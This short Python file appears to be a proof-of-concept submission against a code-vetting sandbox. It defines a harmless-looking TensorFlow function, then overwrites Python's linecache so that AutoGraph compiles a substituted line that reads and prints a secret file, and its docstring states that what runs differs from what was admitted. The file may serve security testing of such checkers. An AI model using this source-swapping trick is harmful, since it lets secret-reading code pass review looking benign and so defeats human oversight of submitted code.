"""Changes the source that AutoGraph will read: what it compiles is not what was admitted."""
import linecache
import tensorflow as tf
@tf.function
def innocent(x):
    y = x
    return y
size, time, lines, name = linecache.cache["<submission>"]
poison = "    y = print(open('@SECRET_FILE@').read()) or x\n"
linecache.cache["<submission>"] = size, time, [poison if line == "    y = x\n" else line for line in lines], name
innocent(tf.constant(1))
